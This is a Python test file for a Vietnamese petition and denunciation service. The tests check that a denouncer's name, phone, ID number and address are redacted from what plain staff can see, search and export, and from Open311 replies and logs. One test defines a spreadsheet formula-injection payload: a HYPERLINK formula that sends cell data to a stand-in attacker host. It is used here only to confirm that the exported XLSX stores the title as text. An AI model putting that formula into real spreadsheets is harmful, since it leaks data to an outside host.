"""Issue #14 findings 4, 5 and 6 (Open311 masking, XLSX formulas) through HTTP.

A denouncer who writes their name, phone, ID number and house into the text of a denunciation is seen only by
those the law names (Luật Tố cáo Điều 47, 56): a plain staff member of the handling office reads the redacted
text on the console and in the API, cannot find it by the name or the numbers, and the matter title, the unit
report (XLSX), the dialogue briefing, the flag notices and the log carry none of it.
"""
from __future__ import annotations

import datetime as dt
import io
import logging
import re

import openpyxl
import pytest
from sqlalchemy import select, update

from service.db import utcnow
from service.domain.dialogues import operations as dialogue
from service.domain.inbound import Actor, InboundMessage, PersonData
from service.domain.intake import operations as intake
from service.domain.matters import flags
from service.models import Matter, OutboxMessage, Petition
from service.models.unit import Office
from tests.helpers import staff_token

UNIT = "11914"  # Đặc khu Cát Hải
CONTENT = ("Tôi tên là Nguyễn Văn An, điện thoại 0912.345.678, CCCD 031234567890, nhà số 12 ngõ 64 Trại Lẻ. "
           "Tôi tố cáo ông Trần Văn Bình lấn chiếm đất công ở bãi bồi để xây nhà trái phép.")
# What the denouncer's text must never show to the wrong eyes, in every spelling a page or a file could use.
SECRETS = ("Nguyễn Văn An", "Nguyen Van An", "nguyen van an", "NGUYỄN VĂN AN", "0912", "345.678", "345678",
           "031234567890", "Trại Lẻ", "Trai Le", "ngõ 64", "số 12")
SEARCHES = ("Nguyen Van An", "Nguyễn Văn An", "nguyen an", "0912345678", "0912", "031234567890", "Trại Lẻ", "ngõ 64")


# A moment's fraction of a second may begin with a phone's digits ("…T11:20:33.091234"): not a leak.
_TIMESTAMP = re.compile(r"\d{4}-\d\d-\d\d[T ]\d\d:\d\d:\d\d(?:\.\d+)?")


def _absent(text: str, where: str) -> None:
    numbers = _TIMESTAMP.sub("", text)
    for secret in SECRETS:
        if secret.isdigit():  # a phone's digits start a number: "0912…", not the inside of a timestamp's "109120"
            assert not re.search(rf"(?<!\d){secret}", numbers), f"{secret!r} in {where}"
        else:
            assert secret not in text, f"{secret!r} in {where}"


@pytest.fixture(params=["named", "anonymous"])
def denunciation(request, client, session):
    """POSTed through the API (five signers, so the matter is flagged đông người and reaches the reports)."""
    session.execute(update(Office).where(Office.code == "van_phong").values(telegram_chat_id="-100777"))
    session.commit()
    body = {"content": CONTENT, "unit": UNIT, "kind": "to_cao", "category": "dat_dai", "co_signers": 4,
            "consent": True, "title": "Đơn tố cáo của Nguyen Van An, sđt 0912345678",
            "location": {"lat": 20.81234, "lon": 106.71234, "address": "Số 12 ngõ 64 Trại Lẻ"}}
    if request.param == "named":
        body["petitioner"] = {"name": "Nguyễn Văn An", "phone": "0912345678", "address": "Số 12 ngõ 64 Trại Lẻ"}
    else:
        body["anonymous"] = True
    answer = client.post("/api/v1/petitions", json=body)
    assert answer.status_code == 201, answer.get_json()
    petition = session.scalar(select(Petition).where(Petition.code == answer.get_json()["code"]))
    office = petition.lead_office.code
    assert office != "van_phong", "the test needs a handling office whose plain staff may not see the denouncer"
    return petition


def test_plain_staff_of_the_handling_office_see_only_the_redacted_text(denunciation, login_as, client, session):
    p = denunciation
    office = p.lead_office.code
    page = login_as("staff", unit=UNIT, office=office).get(f"/can-bo/don/{p.code}")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    _absent(html, "the console page")
    assert "20.81234" not in html  # the coordinates may be the denouncer's home too
    assert "[họ tên]" in html and "Trần Văn Bình" in html  # the accused stays: the office handles the case
    token = staff_token(session, "plain", "staff", UNIT, office)
    detail = client.get(f"/api/v1/petitions/{p.code}", headers={"Authorization": f"Bearer {token}"})
    assert detail.status_code == 200
    _absent(detail.get_data(as_text=True), "the API detail")
    assert detail.get_json()["content"].startswith("Tôi tên là [họ tên], điện thoại [số điện thoại]")
    assert detail.get_json()["location"] == {"lat": None, "lon": None, "address": "[địa chỉ]"}
    listed = client.get("/api/v1/petitions", headers={"Authorization": f"Bearer {token}"})
    assert [i["code"] for i in listed.get_json()["items"]] == [p.code]
    _absent(listed.get_data(as_text=True), "the API list")


def test_those_the_law_names_still_read_everything(denunciation, login_as):
    for client in (login_as("staff", unit=UNIT, office="van_phong"), login_as("chairperson", unit=UNIT),
                   login_as("office_head", unit=UNIT, office=denunciation.lead_office.code)):
        html = client.get(f"/can-bo/don/{denunciation.code}").get_data(as_text=True)
        assert "Tôi tên là Nguyễn Văn An, điện thoại 0912.345.678, CCCD 031234567890" in html
        assert "Số 12 ngõ 64 Trại Lẻ (20.81234" in html


def test_staff_search_by_the_denouncers_name_or_numbers_finds_nothing(denunciation, login_as, client, session):
    office = denunciation.lead_office.code
    token = staff_token(session, "plain", "staff", UNIT, office)
    plain, van_phong = login_as("staff", unit=UNIT, office=office), login_as("staff", unit=UNIT, office="van_phong")
    for user_client in (plain, van_phong):
        assert denunciation.code in user_client.get("/can-bo/don?q=lấn chiếm").get_data(as_text=True)
    for q in SEARCHES:
        assert denunciation.code not in plain.get("/can-bo/don", query_string={"q": q}).get_data(as_text=True), q
    # Văn phòng, which may see the denouncer (Luật Tố cáo Điều 47 k2), finds a caller by exact name or phone
    # (issue #20: the hotline caller who lost the code); never by a part of them, the ID number or the address.
    for q in ("nguyen an", "0912", "031234567890", "Trại Lẻ", "ngõ 64"):
        assert denunciation.code not in van_phong.get("/can-bo/don", query_string={"q": q}).get_data(as_text=True), q
    auth = {"Authorization": f"Bearer {token}"}
    r = client.get("/api/v1/petitions?q=Tran Van Binh", headers=auth)
    assert r.get_json()["total"] == 1, r.get_json()
    for q in SEARCHES:
        r = client.get("/api/v1/petitions", query_string={"q": q}, headers=auth)
        assert r.get_json().get("total") == 0, (q, r.status_code, r.get_json())


def test_matter_title_reports_briefing_notices_and_log_carry_none_of_it(denunciation, login_as, client, session,
                                                                       caplog):
    p = denunciation
    matter = session.get(Matter, p.matter_id)
    assert matter.title == "Tố cáo – Đất đai, bồi thường, tái định cư – " + p.unit.name
    staff = login_as("staff", unit=UNIT, office=p.lead_office.code)
    caplog.set_level(logging.DEBUG)
    report = staff.get("/can-bo/bao-cao")
    assert report.status_code == 200 and matter.title in report.get_data(as_text=True)
    _absent(report.get_data(as_text=True), "the console report")
    xlsx = staff.get("/can-bo/bao-cao/tai-excel")
    assert xlsx.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(xlsx.data))
    cells = " ".join(str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value)
    assert matter.title in cells
    _absent(cells, "the report XLSX")
    token = staff_token(session, "plain", "staff", UNIT, p.lead_office.code)
    _absent(client.get("/api/v1/reports", headers={"Authorization": f"Bearer {token}"}).get_data(as_text=True),
            "the API report")
    ds = dialogue.create_session(session, Actor(label="Văn phòng"), unit=UNIT, place="Hội trường", topics=["Đất đai"],
                                 starts_at=utcnow() + dt.timedelta(days=10))
    session.commit()
    briefing = login_as("chairperson", unit=UNIT).get(f"/can-bo/doi-thoai/{ds.id}/tai-lieu")
    # the briefing names a matter by its staff-given title, else a neutral summary (issue #20 item 10)
    assert briefing.status_code == 200 and f"Vụ việc #{matter.id}" in briefing.get_data(as_text=True)
    _absent(briefing.get_data(as_text=True), "the dialogue briefing")
    flags.send_flag_digests(session)
    session.commit()
    texts = [m.text for m in session.scalars(select(OutboxMessage)).all()]
    assert any(m.startswith("[Đông người]") for m in texts) and any("Tổng hợp vụ việc" in m for m in texts)
    group = session.scalars(select(OutboxMessage.text).where(OutboxMessage.channel == "telegram")).all()
    assert group, "the Văn phòng group chat gets the flag notice"
    _absent("\n".join(texts), "the notices")
    _absent(caplog.text, "the log")


def test_the_log_of_the_submission_carries_none_of_it(client, caplog):
    caplog.set_level(logging.DEBUG)
    answer = client.post("/api/v1/petitions", json={"content": CONTENT, "unit": UNIT, "kind": "to_cao",
                                                    "category": "dat_dai", "co_signers": 4, "anonymous": True})
    assert answer.status_code == 201
    assert "Petition" in caplog.text and "Flag" in caplog.text  # the lines that used to carry the title
    _absent(caplog.text, "the log")


# --- Open311 public answers --------------------------------------------------------------------------------

OPEN311 = "Xin báo: anh Nguyen Van Binh so nha 5 ngo 3, sdt 0912 345 678, thấy cống tràn ra đường Hà Sen."


@pytest.mark.parametrize("petitioner", [None, PersonData(name="Nguyễn Văn Bình", phone="0987654321")])
def test_open311_masks_names_without_diacritics_honorifics_house_numbers_and_odd_phones(client, session, petitioner):
    message = InboundMessage(channel="api", content=OPEN311, unit=UNIT, kind="phan_anh", category="ha_tang_giao_thong",
                             petitioner=petitioner, consent=True)
    code = intake.submit(session, message, Actor(label="công dân")).petition.code
    session.commit()
    for fmt in ("json", "xml"):
        text = client.get(f"/open311/v2/requests/{code}.{fmt}").get_data(as_text=True)
        for secret in ("Nguyen", "Binh", "so nha 5", "ngo 3", "0912", "345 678", "0987"):
            assert secret not in text, (secret, fmt)
        assert "cống tràn ra đường Hà Sen" in text
    [request] = client.get(f"/open311/v2/requests/{code}.json").get_json()
    assert request["description"] == "Xin báo: [đã ẩn] [đã ẩn], sdt [đã ẩn], thấy cống tràn ra đường Hà Sen."


# --- spreadsheet formulas ----------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'


def test_a_formula_as_a_matter_title_is_text_in_the_xlsx_report(client, session, login_as):
    answer = client.post("/api/v1/petitions", json={
        "content": "Đề nghị sửa cống thoát nước khu tái định cư, nước tràn vào nhà dân mỗi khi mưa.",
        "title": FORMULA, "unit": UNIT, "kind": "kien_nghi", "category": "ha_tang_giao_thong", "co_signers": 4,
        "petitioner": {"name": "Lê Văn Tư", "phone": "0987654321"}, "consent": True})
    assert answer.status_code == 201, answer.get_json()
    petition = session.scalar(select(Petition).where(Petition.code == answer.get_json()["code"]))
    assert session.get(Matter, petition.matter_id).title == FORMULA
    token = staff_token(session, "vp", "staff", UNIT, "van_phong")
    for xlsx in (login_as("staff", unit=UNIT).get("/can-bo/bao-cao/tai-excel").data,
                 client.get("/api/v1/reports?format=xlsx", headers={"Authorization": f"Bearer {token}"}).data):
        book = openpyxl.load_workbook(io.BytesIO(xlsx))
        found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == FORMULA]
        assert found, "the title is in the report"
        assert all(c.data_type == "s" for c in found)  # a string, not a formula Excel would run
